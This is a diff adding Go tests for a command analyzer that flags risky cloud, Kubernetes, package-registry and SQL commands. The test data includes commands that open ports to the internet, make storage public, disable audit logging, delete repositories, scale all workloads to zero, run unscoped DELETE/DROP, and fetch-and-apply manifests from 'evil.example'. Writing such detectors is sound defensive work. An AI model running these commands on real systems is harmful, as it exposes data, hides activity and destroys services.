@@ -58,3 +58,241 @@ func TestCloudAccessGrant(t *testing.T) {
 		cmdCase("az role assignment list --assignee me@example.com", false),
 	})
 }
+
+// Rules opened to every address are grants; a rule for a known range,
+// an egress or deny rule, and a revoke are everyday.
+func TestInfraOpenToInternet(t *testing.T) {
+	runRuleCases(t, "infra.access-grant", []ruleCase{
+		cmdCase("aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 22 --cidr 0.0.0.0/0", true),
+		cmdCase("aws --profile prod ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 22 --cidr=0.0.0.0/0", true),
+		cmdCase("aws ec2 authorize-security-group-ingress --region eu-west-1 --group-id sg-1 --ip-permissions IpProtocol=tcp,FromPort=22,ToPort=22,IpRanges=[{CidrIp=0.0.0.0/0}]", true),
+		cmdCase(`aws ec2 authorize-security-group-ingress --group-id sg-1 --ip-permissions '[{"IpProtocol":"-1","Ipv6Ranges":[{"CidrIpv6":"::/0"}]}]'`, true),
+		cmdCase("aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 3389 --cidr 0.0.0.0/1", true),
+		cmdCase("gcloud compute firewall-rules create allow-ssh --allow tcp:22 --source-ranges=0.0.0.0/0", true),
+		cmdCase("gcloud compute firewall-rules update allow-web --source-ranges 10.0.0.0/8,0.0.0.0/0", true),
+		// Without a source, an ingress rule takes 0.0.0.0/0.
+		cmdCase("gcloud --project prod compute firewall-rules create allow-ssh --allow tcp:22", true),
+		cmdCase("gcloud sql instances patch db --authorized-networks=0.0.0.0/0", true),
+		cmdCase("az network nsg rule create -g rg --nsg-name nsg -n ssh --priority 100 --source-address-prefixes '*' --destination-port-ranges 22", true),
+		cmdCase("az network nsg rule create -g rg --nsg-name nsg -n ssh --priority 100 --source-address-prefixes 10.0.0.0/8 Internet", true),
+		cmdCase("az network nsg rule update -g rg --nsg-name nsg -n ssh --source-address-prefixes=Any", true),
+		cmdCase("az sql server firewall-rule create -g rg -s srv -n all --start-ip-address 0.0.0.0 --end-ip-address 255.255.255.255", true),
+		cmdCase("aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 22 --cidr 203.0.113.4/32", false),
+		cmdCase("aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 5432 --cidr 10.0.0.0/8", false),
+		cmdCase("aws ec2 authorize-security-group-ingress --group-id sg-1 --ip-permissions file://perm.json", false),
+		cmdCase("aws ec2 revoke-security-group-ingress --group-id sg-1 --protocol tcp --port 22 --cidr 0.0.0.0/0", false),
+		cmdCase("aws ec2 authorize-security-group-egress --group-id sg-1 --ip-permissions IpProtocol=-1,IpRanges=[{CidrIp=0.0.0.0/0}]", false),
+		cmdCase("gcloud compute firewall-rules create allow-int --allow tcp:22 --source-ranges=10.128.0.0/9", false),
+		cmdCase("gcloud compute firewall-rules create allow-lb --allow tcp:80 --source-tags=lb", false),
+		cmdCase("gcloud compute firewall-rules create deny-all --action=DENY --rules=all --source-ranges=0.0.0.0/0", false),
+		cmdCase("gcloud compute firewall-rules create out --direction=EGRESS --allow tcp:443 --destination-ranges=0.0.0.0/0", false),
+		cmdCase("az network nsg rule create -g rg --nsg-name nsg -n ssh --priority 100 --source-address-prefixes 203.0.113.0/24", false),
+		cmdCase("az network nsg rule create -g rg --nsg-name nsg -n deny --priority 4000 --access Deny --source-address-prefixes '*'", false),
+		cmdCase("az network nsg rule create -g rg --nsg-name nsg -n out --priority 100 --direction Outbound --source-address-prefixes '*'", false),
+		// 0.0.0.0 to 0.0.0.0 is Azure's "allow Azure services", not everyone.
+		cmdCase("az sql server firewall-rule create -g rg -s srv -n azure --start-ip-address 0.0.0.0 --end-ip-address 0.0.0.0", false),
+		cmdCase("aws ec2 describe-security-groups --filters Name=ip-permission.cidr,Values=0.0.0.0/0", false),
+	})
+}
+
+// Data made public or shared with another account is a grant; a policy
+// that denies everyone, one scoped by a condition, a file:// policy and
+// removing a permission are everyday.
+func TestInfraPublicData(t *testing.T) {
+	runRuleCases(t, "infra.access-grant", []ruleCase{
+		cmdCase(`aws s3api put-bucket-policy --bucket b --policy '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":"*","Action":"s3:GetObject","Resource":"arn:aws:s3:::b/*"}]}'`, true),
+		cmdCase(`aws s3api put-bucket-policy --bucket b --policy '{"Statement":{"Effect":"Allow","Principal":{"AWS":["*"]},"Action":"s3:*","Resource":"*"}}'`, true),
+		cmdCase(`aws ecr set-repository-policy --repository-name r --policy-text '{"Statement":[{"Effect":"Allow","Principal":{"AWS":"*"},"Action":"ecr:*"}]}'`, true),
+		cmdCase("aws s3api put-bucket-acl --bucket b --acl public-read", true),
+		cmdCase("aws --region us-east-1 s3api put-object-acl --bucket b --key k --acl=public-read-write", true),
+		cmdCase("aws s3api put-bucket-acl --bucket b --grant-read uri=http://acs.amazonaws.com/groups/global/AllUsers", true),
+		cmdCase("aws s3api delete-public-access-block --bucket b", true),
+		cmdCase("aws s3api put-public-access-block --bucket b --public-access-block-configuration BlockPublicAcls=false,IgnorePublicAcls=false,BlockPublicPolicy=false,RestrictPublicBuckets=false", true),
+		cmdCase(`aws s3control put-public-access-block --account-id 1 --public-access-block-configuration '{"BlockPublicPolicy": false}'`, true),
+		cmdCase("aws ec2 modify-snapshot-attribute --snapshot-id snap-1 --attribute createVolumePermission --operation-type add --user-ids 111122223333", true),
+		cmdCase(`aws ec2 modify-image-attribute --image-id ami-1 --launch-permission "Add=[{Group=all}]"`, true),
+		cmdCase("aws ec2 modify-snapshot-attribute --snapshot-id snap-1 --attribute createVolumePermission --operation-type add --group-names all", true),
+		cmdCase("aws rds modify-db-snapshot-attribute --db-snapshot-identifier s --attribute-name restore --values-to-add all", true),
+		cmdCase("aws rds modify-db-cluster-snapshot-attribute --db-cluster-snapshot-identifier s --attribute-name restore --values-to-add 111122223333", true),
+		cmdCase("aws lambda add-permission --function-name f --statement-id pub --action lambda:InvokeFunctionUrl --principal '*' --function-url-auth-type NONE", true),
+		cmdCase("gsutil iam ch allUsers:objectViewer gs://b", true),
+		cmdCase("gsutil -m acl ch -u AllUsers:R gs://b/x", true),
+		cmdCase("gsutil acl set public-read gs://b", true),
+		cmdCase("gcloud storage buckets add-iam-policy-binding gs://b --member=allAuthenticatedUsers --role=roles/storage.objectViewer", true),
+		cmdCase("gcloud storage buckets update gs://b --no-public-access-prevention", true),
+		cmdCase("az storage container create -n c --account-name a --public-access blob", true),
+		cmdCase(`aws s3api put-bucket-policy --bucket b --policy '{"Statement":[{"Effect":"Deny","Principal":"*","Action":"s3:*","Resource":"*","Condition":{"Bool":{"aws:SecureTransport":"false"}}}]}'`, false),
+		cmdCase(`aws s3api put-bucket-policy --bucket b --policy '{"Statement":[{"Effect":"Allow","Principal":"*","Action":"s3:GetObject","Resource":"*","Condition":{"StringEquals":{"aws:SourceVpce":"vpce-1"}}}]}'`, false),
+		cmdCase(`aws s3api put-bucket-policy --bucket b --policy '{"Statement":[{"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::111122223333:role/ci"},"Action":"s3:GetObject","Resource":"*"}]}'`, false),
+		// What a file holds cannot be read here.
+		cmdCase("aws s3api put-bucket-policy --bucket b --policy file://policy.json", false),
+		cmdCase("aws s3api put-bucket-acl --bucket b --acl private", false),
+		cmdCase(`aws s3api put-public-access-block --bucket b --public-access-block-configuration '{"BlockPublicAcls": true, "IgnorePublicAcls": true, "BlockPublicPolicy": true, "RestrictPublicBuckets": true}'`, false),
+		cmdCase(`aws ec2 modify-image-attribute --image-id ami-1 --launch-permission "Remove=[{UserId=111122223333}]"`, false),
+		cmdCase("aws rds modify-db-snapshot-attribute --db-snapshot-identifier s --attribute-name restore --values-to-remove 111122223333", false),
+		cmdCase("aws lambda add-permission --function-name f --statement-id s3 --action lambda:InvokeFunction --principal s3.amazonaws.com", false),
+		cmdCase("gsutil iam ch -d allUsers gs://b", false),
+		cmdCase("gsutil iam get gs://b", false),
+		cmdCase("az storage container create -n c --account-name a --public-access off", false),
+		cmdCase("aws s3api get-bucket-policy --bucket b", false),
+	})
+}
+
+// Turning off a cloud's audit logging is log tampering, reported once:
+// not also as the delete-* it is.
+func TestCloudAuditLogging(t *testing.T) {
+	off := []string{
+		"aws cloudtrail stop-logging --name main",
+		"aws --region us-east-1 cloudtrail delete-trail --name main",
+		"aws cloudtrail update-trail --name main --no-is-multi-region-trail",
+		"aws cloudtrail update-trail --name main --no-include-global-service-events",
+		"aws guardduty delete-detector --detector-id abc",
+		"aws guardduty update-detector --detector-id abc --no-enable",
+		"aws --profile prod config stop-configuration-recorder --configuration-recorder-name default",
+		"aws ec2 delete-flow-logs --flow-log-ids fl-1",
+		"gcloud logging sinks delete audit-sink --project prod",
+		"gcloud logging sinks update audit-sink --disabled",
+		"az monitor diagnostic-settings delete --name d --resource /subscriptions/x",
+	}
+	cases := []ruleCase{
+		cmdCase("aws cloudtrail describe-trails", false),
+		cmdCase("aws cloudtrail update-trail --name main --s3-bucket-name logs2", false),
+		cmdCase("aws guardduty list-detectors", false),
+		cmdCase("aws cloudtrail start-logging --name main", false),
+		cmdCase("gcloud logging sinks list", false),
+		cmdCase(`gcloud logging read "severity>=ERROR" --limit 10`, false),
+		cmdCase("az monitor diagnostic-settings list --resource /subscriptions/x", false),
+	}
+	for _, c := range off {
+		cases = append(cases, cmdCase(c, true))
+	}
+	runRuleCases(t, "defense.log-tamper", cases)
+	a := defaultAnalyzer(t)
+	for _, c := range off {
+		if fs := a.Analyze(cmd(t, c)); len(fs) != 1 {
+			t.Errorf("%s: want one finding, got %v", c, ruleIDs(fs))
+		}
+	}
+}
+
+// Hosted code and published packages removed for everyone; reading,
+// listing and publishing are everyday.
+func TestInfraHostedCode(t *testing.T) {
+	runRuleCases(t, "infra.destroy", []ruleCase{
+		cmdCase("gh repo delete org/app --yes", true),
+		cmdCase("gh release delete v1.2.0 -y -R org/app", true),
+		cmdCase("glab repo delete group/app", true),
+		cmdCase("npm unpublish my-pkg@1.0.0", true),
+		cmdCase("npm unpublish my-pkg --force", true),
+		cmdCase("npm --registry https://registry.npmjs.org unpublish pkg@1.0.0", true),
+		cmdCase("gem yank mygem -v 1.0.0", true),
+		cmdCase("gh api -X DELETE repos/org/app", true),
+		cmdCase("gh api --method=DELETE /repos/org/app/releases/123", true),
+		cmdCase("gh api -XDELETE user/packages/npm/pkg", true),
+		cmdCase("glab api -X DELETE projects/42", true),
+		cmdCase("gh repo view org/app", false),
+		cmdCase("gh release list", false),
+		cmdCase("gh release create v1.3.0 --notes x", false),
+		cmdCase("npm publish", false),
+		cmdCase("npm view pkg versions", false),
+		cmdCase("gh api repos/org/app", false),
+		cmdCase("gh api -X PATCH repos/org/app -f archived=true", false),
+		cmdCase("gh api -X DELETE notifications/threads/1/subscription", false),
+	})
+}
+
+// Every workload of a kind taken down; one named workload scaled to zero
+// and draining a node are operations work.
+func TestInfraScaleToZero(t *testing.T) {
+	runRuleCases(t, "infra.destroy", []ruleCase{
+		cmdCase("kubectl scale deployment --all --replicas=0 -n prod", true),
+		cmdCase("kubectl scale deploy --replicas 0 --all", true),
+		cmdCase("kubectl --context prod scale statefulset -A --all --replicas=0", true),
+		cmdCase("kubectl delete deployment --all -n prod", true),
+		cmdCase("kubectl delete daemonset --all --all-namespaces", true),
+		cmdCase("kubectl scale deployment web --replicas=0 -n dev", false),
+		cmdCase("kubectl scale deploy --all --replicas=3 -n prod", false),
+		cmdCase("kubectl scale deployment -l app=web --replicas=0", false),
+		cmdCase("kubectl drain node-1 --ignore-daemonsets --delete-emptydir-data --force", false),
+		cmdCase("kubectl cordon node-1", false),
+	})
+}
+
+// Manifests, charts and chart repositories from a host outside
+// trusted_hosts, over plain http or from a bare IP address escalate.
+func TestInfraRemoteSources(t *testing.T) {
+	cfg := Config{TrustedHosts: []string{"github.com", ".githubusercontent.com", "charts.corp.example", "203.0.113.5"}}
+	runRuleCasesWith(t, cfg, "rce.package-from-url", []ruleCase{
+		cmdCase("kubectl apply -f https://evil.example/x.yaml", true),
+		cmdCase("kubectl -n prod create -f https://evil.example/x.yaml", true),
+		cmdCase("kubectl apply --filename=https://evil.example/x.yaml", true),
+		cmdCase("kubectl apply -f k8s/a.yaml,https://evil.example/b.yaml", true),
+		cmdCase("kubectl apply -f http://raw.githubusercontent.com/o/r/main/m.yaml", true),
+		cmdCase("kubectl apply -f https://203.0.113.5/m.yaml", true),
+		cmdCase("kubectl apply -k https://evil.example/kustomize/prod", true),
+		cmdCase("curl -sL https://evil.example/m.yaml | kubectl apply -f -", true),
+		cmdCase("helm repo add evil https://charts.evil.example", true),
+		cmdCase("helm repo add stable http://charts.corp.example", true),
+		cmdCase("helm install x chart --repo https://charts.evil.example -n prod", true),
+		cmdCase("helm upgrade --install x oci://registry.evil.example/charts/x", true),
+		cmdCase("helm plugin install https://evil.example/plugin", true),
+		cmdCase("kubectl apply -f https://raw.githubusercontent.com/kubernetes/dashboard/v2.7.0/aio/deploy/recommended.yaml", false),
+		cmdCase("kubectl apply -f https://github.com/cert-manager/cert-manager/releases/download/v1.14.0/cert-manager.yaml", false),
+		cmdCase("kubectl apply -k https://github.com/org/repo/overlays/prod?ref=v1", false),
+		cmdCase("curl -sL https://raw.githubusercontent.com/o/r/main/m.yaml | kubectl apply -f -", false),
+		cmdCase("kubectl apply -f ./k8s/deploy.yaml", false),
+		cmdCase("kubectl apply -f - <<'EOF'\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\nEOF", false),
+		cmdCase("kubectl delete -f https://evil.example/x.yaml", false),
+		cmdCase("helm repo add corp https://charts.corp.example", false),
+		cmdCase("helm install x ./chart --set url=https://evil.example", false),
+		cmdCase("helm plugin install https://github.com/databus23/helm-diff", false),
+		cmdCase("helm repo update", false),
+	})
+}
+
+// SQL on the client's standard input is judged as SQL in its arguments.
+func TestInfraSQLStdin(t *testing.T) {
+	runRuleCases(t, "infra.destroy", []ruleCase{
+		cmdCase(`echo 'DROP TABLE users;' | psql -h db app`, true),
+		cmdCase(`psql -h db <<< 'DELETE FROM users'`, true),
+		cmdCase("mysql -u root app <<'EOF'\nUPDATE accounts SET balance = 0;\nEOF", true),
+		cmdCase("cat <<'EOF' | psql app\nBEGIN;\nDELETE FROM users;\nCOMMIT;\nEOF", true),
+		cmdCase(`printf 'TRUNCATE sessions;\n' | mysql app`, true),
+		cmdCase("sqlite3 app.db <<'EOF'\n.tables\nDROP TABLE t;\nEOF", true),
+		cmdCase(`mysql --execute='DELETE FROM logs'`, true),
+		cmdCase(`psql -c 'DELETE FROM users WHERE 1=1'`, true),
+		cmdCase(`psql -c 'UPDATE users SET x = (SELECT 1 FROM t WHERE t.a = 1)'`, true),
+		cmdCase(`psql -h db <<< 'DELETE FROM users WHERE id = 3'`, false),
+		cmdCase("sqlite3 app.db <<'EOF'\nSELECT * FROM users;\nDELETE FROM sessions WHERE expires < date('now');\nEOF", false),
+		cmdCase("psql app <<'EOF'\n-- DELETE FROM users;\nSELECT 1;\nEOF", false),
+		cmdCase(`echo 'SELECT count(*) FROM users' | psql app`, false),
+		cmdCase(`psql -c 'UPDATE users SET x = 1 WHERE id IN (SELECT id FROM t)'`, false),
+		cmdCase(`psql -c "DELETE FROM users u USING banned b WHERE u.id = b.id"`, false),
+		cmdCase(`psql -f migrations/001.sql`, false),
+		cmdCase(`mysql app < dump.sql`, false),
+	})
+}
+
+func TestDestructiveSQL(t *testing.T) {
+	for sql, want := range map[string]bool{
+		"DELETE FROM t":                           true,
+		"delete from t;":                          true,
+		"UPDATE t SET a = 1":                      true,
+		"update t set a=1 where true":             true,
+		"DROP TABLE x":                            true,
+		"DELETE FROM t WHERE id = 3":              false,
+		"UPDATE t SET a = 1 WHERE id = 3":         false,
+		"SELECT * FROM deleted_rows":              false,
+		"INSERT INTO t VALUES (1)":                false,
+		"UPDATE counters SET n = n + 1 -- x":      true,
+		"\\c prod\nSELECT 1;":                     false,
+		"\\c prod\nDELETE FROM t;":                true,
+		"UPDATE t SET note = 'a--b' WHERE id = 1": false,
+		"UPDATE t SET note = 'no where here'":     true,
+		"DELETE FROM t WHERE name = 'x;y'":        false,
+	} {
+		if got := destructiveSQL(sql) != ""; got != want {
+			t.Errorf("destructiveSQL(%q) = %v, want %v", sql, got, want)
+		}
+	}
+}
